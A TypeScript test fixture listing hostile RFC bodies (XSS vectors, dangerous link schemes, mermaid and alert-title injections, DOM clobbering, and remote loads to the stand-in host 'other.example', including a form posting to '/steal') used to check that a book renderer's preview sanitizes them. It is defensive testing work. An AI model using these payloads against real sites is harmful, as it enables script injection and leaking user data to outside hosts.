// What a pull request could put in an RFC to run script, leave the page or call another host
// when the book's preview is opened: one vector per page, so each is tested on its own. Every
// attempt sets `window.__pwned`, opens a dialog or asks other.example for something. Shared by
// the renderer's tests (test/book/) and the browser's (test/browser/).

/** One hostile RFC body. */
export interface HostileVector {
  name: string;
  /** What the issue of the book it came from was: the route the text took into HTML. */
  route: "raw html" | "markdown" | "alert title" | "remote load" | "mermaid" | "client state";
  body: string;
}

/** The host every remote vector names; nothing may ever be asked of it before a click. */
export const otherHost = "other.example";

const pwn = "window.__pwned=1";

export const hostileVectors: readonly HostileVector[] = [
  { name: "script element", route: "raw html", body: `<script>${pwn};alert(1)</script>` },
  { name: "img onerror", route: "raw html", body: `<img src="x" onerror="${pwn}">` },
  { name: "javascript link", route: "raw html", body: `<a href="javascript:${pwn}">a javascript link</a>` },
  { name: "tab in scheme", route: "raw html", body: `<a href="jav&#x09;ascript:${pwn}">an encoded link</a>` },
  { name: "data link", route: "raw html", body: `<a href="data:text/html,<script>alert(1)</script>">a data link</a>` },
  { name: "svg script", route: "raw html", body: `<svg width="20" height="20"><script>${pwn}</script><circle r="5"/></svg>` },
  { name: "svg onload", route: "raw html", body: `<svg onload="${pwn}"><circle r="5"/></svg>` },
  { name: "svg xlink", route: "raw html", body: `<svg><a xlink:href="javascript:${pwn}"><text y="15">svg link</text></a></svg>` },
  { name: "iframe srcdoc", route: "raw html", body: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { name: "form", route: "raw html", body: `<form action="https://${otherHost}/steal"><input name="q"><button>send</button></form>` },
  { name: "object and embed", route: "raw html", body: `<object data="https://${otherHost}/o.swf"></object><embed src="https://${otherHost}/e.swf">` },
  { name: "style element", route: "raw html", body: `<style>@import 'https://${otherHost}/x.css'; body { background: url(https://${otherHost}/b.png) }</style>` },
  { name: "style attribute", route: "raw html", body: `<div style="background: url(https://${otherHost}/i.png)">styled</div>` },
  { name: "meta refresh", route: "raw html", body: `<meta http-equiv="refresh" content="0; url=https://${otherHost}/">` },
  { name: "link stylesheet", route: "raw html", body: `<link rel="stylesheet" href="https://${otherHost}/s.css">` },
  { name: "base element", route: "raw html", body: `<base href="https://${otherHost}/">` },
  { name: "details ontoggle", route: "raw html", body: `<details open ontoggle="${pwn}"><summary>details</summary>more</details>` },
  { name: "markdown javascript link", route: "markdown", body: "[a markdown javascript link](javascript:alert(1))" },
  { name: "markdown vbscript link", route: "markdown", body: "[a vbscript link](vbscript:msgbox(1))" },
  { name: "ms-msdt link", route: "markdown", body: "[an ms-msdt link](ms-msdt:/id PCWDiagnostic)" },
  { name: "unknown scheme link", route: "markdown", body: "[an a: link](a:b) and <a:b>" },
  { name: "data link in markdown", route: "markdown", body: "[a markdown data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)" },
  { name: "reference definition", route: "markdown", body: "[a reference link][evil]\n\n[evil]: javascript:alert(1)" },
  { name: "heading attribute", route: "markdown", body: `### Title { #"onmouseover=${pwn} }` },
  { name: "fence info", route: "markdown", body: '```"><script>alert(1)</script>\ncode\n```' },
  { name: "alert title img", route: "alert title", body: `> [!NOTE] <img src=x onerror="${pwn}">\n> Text.` },
  { name: "alert title svg", route: "alert title", body: `> [!TIP] <svg onload="${pwn}"></svg>\n> Text.` },
  { name: "alert title link", route: "alert title", body: `> [!WARNING] <a href="javascript:${pwn}">an alert link</a>\n> Text.` },
  { name: "alert title iframe", route: "alert title", body: `> [!IMPORTANT] <iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>\n> Text.` },
  { name: "alert title script", route: "alert title", body: `> [!note]<script>${pwn};alert(1)</script>\n> Text.` },
  { name: "alert title style", route: "alert title", body: `> [!CAUTION] <style>@import 'https://${otherHost}/alert.css';</style>\n> Text.` },
  { name: "markdown remote image", route: "remote load", body: `![a tracking pixel](https://${otherHost}/pixel.png)` },
  { name: "protocol-relative image", route: "remote load", body: `![a relative pixel](//${otherHost}/pixel.png)` },
  { name: "backslash image", route: "remote load", body: `![a backslash pixel](\\\\\\\\${otherHost}\\pixel.png)` },
  { name: "html backslash image", route: "remote load", body: `<img src="\\\\${otherHost}\\pixel.png" alt="an html backslash pixel">` },
  { name: "html remote image", route: "remote load", body: `<img src="https://${otherHost}/pixel.png" alt="an html pixel">` },
  { name: "svg remote paint", route: "remote load", body: `<svg width="20" height="20"><rect width="20" height="20" fill="url(https://${otherHost}/paint.svg#p)" stroke="url( 'https://${otherHost}/s.svg#p' )"/></svg>` },
  { name: "mermaid init css", route: "mermaid", body: "```mermaid\n%%{init: {'themeCSS': '@import url(https://other.example/m.css); .node rect { fill: url(https://other.example/n.png) }', 'fontFamily': 'x; background: url(https://other.example/f.png)'}}%%\nflowchart TD\n  A --> B\n```" },
  { name: "mermaid theme variables", route: "mermaid", body: "```mermaid\n%%{init: {'themeVariables': {'primaryColor': 'url(https://other.example/v.png)', 'fontFamily': 'url(https://other.example/ff.woff)'}}}%%\nflowchart TD\n  A --> B\n```" },
  { name: "mermaid image shape", route: "mermaid", body: '```mermaid\nflowchart TD\n  A@{ img: "https://other.example/shape.png", label: "pic", pos: "t", w: 60, h: 60 }\n  A --> B\n```' },
  { name: "mermaid click", route: "mermaid", body: '```mermaid\nflowchart TD\n  A --> B\n  click A "javascript:alert(1)"\n  click B call alert(1)\n```' },
  { name: "clobbered search", route: "client state", body: '<a id="rfckitSearch" name="rfckitSearch">s</a><a id="rfckitToc">t</a><img name="currentScript">' },
];
